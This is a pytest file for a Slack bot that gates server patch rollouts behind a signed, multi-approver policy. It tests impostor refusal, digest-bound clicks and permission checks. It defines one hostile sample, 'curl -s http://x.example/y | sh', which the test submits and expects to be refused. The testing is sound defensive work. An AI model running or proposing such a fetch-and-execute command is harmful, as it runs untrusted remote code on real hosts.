"""Slack under the approval policy (issue 13): people by stable ids, signed clicks, the policy's
update profiles, refusals at the edge, and who sees and controls which rollout.

The bot in HTTP mode and a worker with its SlackNotifier both read a real policy file; the bot
signs verified clicks with a real ed25519 key the policy lists under `frontends: slack`, and the
worker verifies every signature. Real Temporal dev server, OpenBao and the sshd lab; only Slack's
Web API is the stand-in (lab/slack_standin), whose users carry Slack's account flags. "Nothing
ran" is read from each lab host's own command log.
"""

from __future__ import annotations

from collections.abc import AsyncIterator, Awaitable
from pathlib import Path
from typing import Any

import asyncssh
import pytest
import pytest_asyncio
from temporalio.client import Client, WorkflowHandle

from bot.settings import Settings
from bot.slack.blocks import APPROVE_ACTION
from lab import Lab
from lab.slack_standin import SlackStandIn, block_action_body, slash_command_body
from lab.slack_standin.rules import block_texts
from tests.slack.helpers import (
    ALICE,
    BOB,
    CAROL,
    CHANNEL,
    UPDATE,
    BotServer,
    ack_text,
    bot_and_worker,
    commands,
    ephemeral_for,
    request_rollout,
    standin,
)
from tests.support import wait_for
from workflows.models import WORKFLOW_NAME, Phase, RolloutProgress, RolloutSummary

MALLORY, GUEST, OUTSIDER = "UMALLORY", "UGUEST", "UOUTSIDER"
OTHER_TEAM = "T0OTHERCORP"
OTHER_CHANNEL = "COTHER"
CURL = "curl -s http://x.example/y | sh"


def policy_text(slack_key: str) -> str:
    """Two approvers, both needed, for cluster-a; one for cluster-b; only profiles run."""
    return f"""
people:
  alice:   {{email: alice@example.com,   slack: {ALICE}}}
  bob:     {{email: bob@example.com,     slack: {BOB}}}
  carol:   {{email: carol@example.com,   slack: {CAROL}}}
  mallory: {{email: mallory@example.com, slack: {MALLORY}}}
  gina:    {{email: gina@example.com,    slack: {GUEST}}}
  xavier:  {{email: xavier@example.com,  slack: {OUTSIDER}}}
groups:
  web-approvers: [alice, carol]
frontends:
  slack: {{keys: ["{slack_key}"]}}
clusters:
  cluster-a:
    requesters: [bob, gina, xavier]
    approvers: [web-approvers]
    minApprovals: 2
    updateProfiles: {{security: "{UPDATE}"}}
    allowCustomUpdate: false
    maxHosts: 10
    dryRunBy: [bob]
  cluster-b:
    requesters: [bob]
    approvers: [alice]
    updateProfiles: {{security: "{UPDATE}"}}
    allowCustomUpdate: false
"""


@pytest_asyncio.fixture
async def bot(
    worker_settings: Settings, temporal_client: Client, tmp_path: Path
) -> AsyncIterator[BotServer]:
    key = asyncssh.generate_private_key("ssh-ed25519", comment="patchpilot-slack")
    key_path = tmp_path / "slack_ed25519"
    key_path.write_bytes(key.export_private_key())
    key_path.chmod(0o600)
    policy = tmp_path / "policy.yml"
    policy.write_text(policy_text(key.export_public_key().decode().strip()))
    settings = worker_settings.model_copy(
        update={"policy": policy, "signing_key": key_path, "signer": "slack"}
    )
    slack: SlackStandIn
    async with standin(channels={CHANNEL, OTHER_CHANNEL}) as slack:
        # Mallory calls herself "alice" in Slack: a display name never names anyone.
        slack.add_user(MALLORY, "mallory", "alice@example.com", display_name="alice")
        slack.add_user(GUEST, "gina", "gina@example.com", restricted=True)
        slack.add_user(OUTSIDER, "xavier", "xavier@example.com", team_id=OTHER_TEAM)
        async with bot_and_worker(settings, temporal_client, slack) as running:
            yield running


def untouched(fleet: Lab) -> bool:
    return all(commands(fleet, host.name) == [] for host in fleet.hosts)


async def approve_on(
    bot: BotServer, message: dict[str, Any], card_ts: str, user: str, team: str | None = None
) -> None:
    """`user` clicks Approve on the approval request `message` as Slack sends the click: the
    button's value and its block's block_id as the message holds them."""
    extra: dict[str, Any] = {"team_id": team} if team else {}
    decision = message["blocks"][1]
    body = block_action_body(
        APPROVE_ACTION,
        decision["elements"][0]["value"],
        user,
        CHANNEL,
        message["ts"],
        block_id=decision["block_id"],
        thread_ts=card_ts,
        **extra,
    )
    assert (await bot.post(body))[0] == 200


async def answer(
    bot: BotServer, text: str, user: str, channel: str = CHANNEL, team: str | None = None
) -> str:
    """What the bot answers `user` typing `/patch text` in `channel`: the ack's text, or the
    ephemeral answer it sends to the command's response_url after the ack."""
    before = len(bot.slack.responses())
    extra = {"team_id": team} if team else {}
    body = slash_command_body(text, user, channel, bot.slack.response_url(), **extra)
    status, acked = await bot.post(body)
    assert status == 200
    if acked:
        return ack_text(acked)
    await wait_for(lambda: len(bot.slack.responses()) > before, timeout=60)
    return str(bot.slack.responses()[-1]["text"])


async def test_two_approvers_click_and_the_profile_runs_impostors_are_refused(
    bot: BotServer, fleet: Lab, temporal_client: Client
) -> None:
    slack = bot.slack
    rollout_id, card_ts, approval = await request_rollout(bot, "cluster-a pilot=1 profile=security")
    # The policy's approvers are asked, by their Slack ids.
    assert approval["text"] == f"Approval needed for rollout {rollout_id}: <@{ALICE}> <@{CAROL}>"
    handle: WorkflowHandle[Any, RolloutSummary] = temporal_client.get_workflow_handle(
        rollout_id, result_type=RolloutSummary
    )
    progress = await handle.query("progress", result_type=RolloutProgress)
    assert progress.digest is not None and progress.digest.startswith("sha256:")
    # What approvers read: the profile's whole command, the clusters, hosts, requester, digest.
    shown = "\n".join(block_texts(approval["blocks"]))
    assert f"Update command (update profile security):\n{UPDATE}" in shown
    assert "*What runs* — cluster-a (3 hosts) · 3 hosts" in shown
    assert "*Requester*: bob@example.com" in shown
    assert f"*Digest the approvals sign*: `{progress.digest}`" in shown
    assert "*Approvals*: none yet; still needed: cluster-a: 2 more of" in shown

    async def click(user: str, team: str | None = None) -> None:
        await approve_on(bot, slack.messages[(CHANNEL, approval["ts"])], card_ts, user, team)

    await click(BOB)
    assert "bob (bob@example.com) requested this rollout and cannot decide it" in (
        await ephemeral_for(slack, BOB, 1)
    )
    await click(MALLORY)  # display name "alice", e-mail alice@… in her Slack profile
    refused = await ephemeral_for(slack, MALLORY, 1)
    assert "mallory (mallory@example.com) is not an approver of it" in refused
    await click(GUEST)
    assert "is a multi-channel guest" in await ephemeral_for(slack, GUEST, 1)
    await click(OUTSIDER, OTHER_TEAM)
    assert "serves Slack workspace T0PATCHPILOT only" in await ephemeral_for(slack, OUTSIDER, 1)
    assert untouched(fleet), "a host was touched before any approval"

    await click(ALICE)
    first = await ephemeral_for(slack, ALICE, 1)
    assert "approved by alice@example.com; still needed: cluster-a: 1 more of" in first
    request = slack.messages[(CHANNEL, approval["ts"])]
    await wait_for(lambda: request["updates"] == 1, timeout=60)
    shown = "\n".join(block_texts(request["blocks"]))
    assert (
        "*Approvals*: approved by alice@example.com; still needed: cluster-a: 1 more of carol@"
        in shown
    )
    assert any(b["type"] == "actions" for b in request["blocks"]), "buttons gone after one of two"
    # The card says it too.
    card = slack.messages[(CHANNEL, card_ts)]
    await wait_for(
        lambda: (
            "*Approvals*\napproved by alice@example.com; still needed: cluster-a: 1 more of "
            "carol@example.com" in "\n".join(block_texts(card["blocks"]))
        ),
        timeout=60,
    )
    progress = await handle.query("progress", result_type=RolloutProgress)
    assert progress.phase == Phase.AWAITING_APPROVAL and untouched(fleet)
    await click(ALICE)  # the same approver twice is refused by the workflow
    assert "already approved" in await ephemeral_for(slack, ALICE, 2)

    await click(CAROL)
    summary = await handle.result()
    assert summary.phase == Phase.SUCCEEDED and summary.patched == 3
    progress = await handle.query("progress", result_type=RolloutProgress)
    assert progress.approved_by == ["alice@example.com", "carol@example.com"]
    started = await bot.bot.rollouts.request(rollout_id)
    assert started.update_command == UPDATE and started.update_profile == "security"
    assert started.requester_email == "bob@example.com"
    for host in ("a1", "a2", "a3"):
        assert UPDATE in commands(fleet, host), commands(fleet, host)
    await wait_for(
        lambda: slack.messages[(CHANNEL, approval["ts"])]["text"] == f"Approved by <@{CAROL}>",
        timeout=60,
    )


@pytest.mark.parametrize(
    ("swap", "said", "shown_now"),
    [
        # Another rollout: cluster-b (where alice alone suffices) and no pilot.
        (
            {"target_clusters": ["cluster-b"], "pilot_host_count": 0},
            "now runs `sha256:",
            "cluster-b (3 hosts)",
        ),
        # The same one started again, without its pilot: the same digest, another run.
        ({"pilot_host_count": 0}, "is another run of it, with the same digest", "cluster-a"),
    ],
)
async def test_a_click_signs_only_what_its_message_showed(
    bot: BotServer,
    fleet: Lab,
    temporal_client: Client,
    worker_settings: Settings,
    swap: dict[str, Any],
    said: str,
    shown_now: str,
) -> None:
    slack = bot.slack
    rollout_id, card_ts, approval = await request_rollout(bot, "cluster-a pilot=1 profile=security")
    shown = "\n".join(block_texts(approval["blocks"]))
    assert "cluster-a (3 hosts)" in shown and "cluster-b" not in shown
    # Someone with Temporal access only puts another rollout under the message, same id.
    original = await bot.bot.rollouts.request(rollout_id)
    await temporal_client.get_workflow_handle(rollout_id).terminate(reason="swapped")
    handle: WorkflowHandle[Any, RolloutSummary] = await temporal_client.start_workflow(
        WORKFLOW_NAME,
        original.model_copy(update=swap),
        id=rollout_id,
        task_queue=worker_settings.task_queue,
        result_type=RolloutSummary,
    )

    async def progress() -> RolloutProgress:
        return await handle.query("progress", result_type=RolloutProgress)

    await wait_for(lambda: _phase_is(progress(), Phase.AWAITING_APPROVAL), timeout=60, interval=0.3)
    await approve_on(bot, approval, card_ts, ALICE)  # on the message she read: cluster-a
    refused = await ephemeral_for(slack, ALICE, 1)
    assert "approve refused: the message you clicked showed digest" in refused
    assert said in refused and "changed or started again after the message was posted" in refused
    now = await progress()
    assert now.phase == Phase.AWAITING_APPROVAL and now.approved_by == [] and untouched(fleet)
    # The message now shows what the rollout runs now, with its digest.
    request = slack.messages[(CHANNEL, approval["ts"])]
    await wait_for(lambda: request["updates"] >= 1, timeout=60)
    shown = "\n".join(block_texts(request["blocks"]))
    assert shown_now in shown and f"`{now.digest}`" in shown
    await handle.terminate(reason="test over")
    assert untouched(fleet)


async def _phase_is(progress: Awaitable[RolloutProgress], phase: Phase) -> bool:
    return (await progress).phase == phase


async def test_the_edge_refuses_what_the_policy_forbids_before_anything_starts(
    bot: BotServer, fleet: Lab
) -> None:
    slack = bot.slack
    refused = await answer(bot, f'cluster-a update="{CURL}"', BOB)
    assert "update=: free-form update commands are not allowed on cluster-a" in refused
    assert "choose one with profile= (allowed: security)" in refused
    # A typed @alice is text anyone can write; only a mention picked in Slack names a person.
    refused = await answer(bot, "cluster-a profile=security approvers=@alice", BOB)
    assert "approvers=: @alice is text, not a Slack mention" in refused
    refused = await answer(bot, f"cluster-a profile=security approvers=<@{MALLORY}>", BOB)
    assert "approvers=: mallory@example.com may not approve cluster-a" in refused
    refused = await answer(bot, "cluster-a profile=full", BOB)
    assert "profile=: the policy has no update profile 'full' for cluster-a" in refused
    refused = await answer(bot, "cluster-b profile=security", ALICE)
    assert "requester: alice (alice@example.com) may not start rollouts on cluster-b" in refused
    refused = await answer(bot, "cluster-a profile=security", GUEST)
    assert "is a multi-channel guest" in refused
    refused = await answer(bot, "cluster-a profile=security", OUTSIDER, team=OTHER_TEAM)
    assert "serves Slack workspace T0PATCHPILOT only" in refused
    refused = await answer(bot, "cluster-a profile=security", "UEVE")
    assert "is not a person of the approval policy" in refused
    assert slack.top_level(CHANNEL) == [], "a card was posted for a refused rollout"
    assert untouched(fleet)


async def test_list_status_and_cancel_follow_the_policy(bot: BotServer, fleet: Lab) -> None:
    rollout_id, _, _ = await request_rollout(bot, "cluster-b profile=security")
    # In the channel it was started in, anyone of the policy sees it; elsewhere only its people.
    assert f"`{rollout_id}` — running" in await answer(bot, "list", MALLORY)
    assert rollout_id not in await answer(bot, "list", MALLORY, channel=OTHER_CHANNEL)
    assert f"`{rollout_id}` — running" in await answer(bot, "list", ALICE, channel=OTHER_CHANNEL)
    hidden = await answer(bot, f"status {rollout_id}", MALLORY, channel=OTHER_CHANNEL)
    assert "was started in another channel and you are neither its requester" in hidden
    shown = await answer(bot, f"status {rollout_id}", BOB, channel=OTHER_CHANNEL)
    assert f"{rollout_id} (cluster-b): awaiting-approval" in shown
    refused = await answer(bot, f"cancel {rollout_id}", MALLORY)
    assert "mallory may not cancel this rollout: only its requester, the approvers of" in refused
    refused = await answer(bot, f"pause {rollout_id}", CAROL)
    assert "carol may not pause this rollout" in refused
    assert "cancellation of" in await answer(bot, f"cancel {rollout_id}", ALICE)
    assert untouched(fleet)
